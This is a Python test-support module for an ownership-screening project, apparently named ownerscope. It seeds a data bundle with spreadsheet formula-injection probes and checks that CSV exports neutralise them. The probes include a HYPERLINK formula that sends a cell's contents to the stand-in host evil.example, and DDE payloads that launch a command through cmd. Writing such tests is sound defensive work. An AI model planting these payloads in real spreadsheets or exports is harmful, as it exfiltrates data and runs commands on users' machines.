"""What the security tests share: the spreadsheet-formula probes, a store holding them as names, raw
Cypher written past the adapters (as the console hole allowed) and the CLI in a subprocess."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from pathlib import Path

from ownerscope.ingest.run import run_ingest

from ..conftest import write_bundle

# The probes and the other starts a spreadsheet runs as a formula.
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3", "\t=1+1", "\r=1+1"]
DANGEROUS_START = ("=", "+", "-", "@", "\t", "\r")


def hostile_bundle(folder: Path) -> Path:
    """Six listed owners named by the probes, 10% each of a company itself named by a probe: the company
    is caught (60% listed ownership), so every name shows up in exposure, screening and report output.
    (The bundle trims cells and refuses line breaks in names: the tab and CR probes are set by Cypher.)"""
    ents = ["id,type,name,notes"] + [f"owner-{i},company,{_cell(name.strip())},{_cell('=1+1')}"
                                     for i, name in enumerate(FORMULAS)]
    ents.append(f"target,company,{_cell(FORMULAS[0])},")
    rels = ["source,target,type,share,note,source_url"] + [
        f"owner-{i},target,ownership,10,{_cell(FORMULAS[1])},https://example.org/{i}" for i in range(len(FORMULAS))]
    des = ["entity_id,authority,program"] + [f"owner-{i},us,{_cell(FORMULAS[2])}" for i in range(len(FORMULAS))]
    return write_bundle(folder, "\n".join(ents), "\n".join(rels), "\n".join(des))


def _cell(text: str) -> str:
    return '"' + text.replace('"', '""') + '"'


def load_hostile(store, tmp_path: Path) -> None:
    report = run_ingest("csv", [hostile_bundle(tmp_path / "hostile")], store=store, dataset="hostile",
                        # its listings are undated: published before the dates the tests ask about
                        show_progress=False, quarantine=tmp_path / "q.jsonl", published="2024-05-03")
    assert report.quarantined == 0 and report.stored == 7 + 6 + 6, report.summary()
    for i, name in enumerate(FORMULAS):
        if name != name.strip():
            write_raw(store, "MATCH (e:Entity {id: $id}) SET e.name = $name", {"id": f"owner-{i}", "name": name})


def cells(text: str) -> list[str]:
    """Every cell of a CSV document, header included."""
    return [c for row in csv.reader(io.StringIO(text, newline="")) for c in row]


def assert_formula_safe(text: str, must_contain: tuple[str, ...] = ()) -> None:
    """No cell starts a formula, and each probe is there, neutralised with a leading `'`."""
    all_cells = cells(text)
    bad = [c for c in all_cells if c.startswith(DANGEROUS_START)]
    assert not bad, f"cells a spreadsheet would run: {bad}"
    for probe in must_contain:
        assert "'" + probe in all_cells, f"{probe!r} is not in the CSV as neutralised text"


def write_raw(store, cypher: str, params: dict | None = None) -> None:
    """Write straight into a store, past every adapter: the embedded store through its own connection,
    Neo4j through the driver."""
    if hasattr(store, "_driver"):
        with store._driver.session(database=store.database) as s:
            s.run(cypher, params or {}).consume()
    else:
        store._run(cypher, params or {})


def release(store) -> str:
    """Close an embedded store (one process at a time may open its file) before a CLI run uses it."""
    if not hasattr(store, "_driver"):
        store.close()
    return store.url


def run_cli(*args: str, env: dict | None = None) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "ownerscope.cli", *args], capture_output=True, text=True,
                          timeout=300, env={**os.environ, **(env or {})})


def ingest_with_rejects(fmt: str, path: Path, store, tmp_path: Path):
    """Ingest one file or bundle; the report and the quarantined rows (as the quarantine file holds them)."""
    q = tmp_path / f"q-{fmt}.jsonl"
    report = run_ingest(fmt, [path], store=store, show_progress=False, quarantine=q)
    rejects = [json.loads(line) for line in q.read_text(encoding="utf-8").splitlines()] if q.exists() else []
    return report, rejects
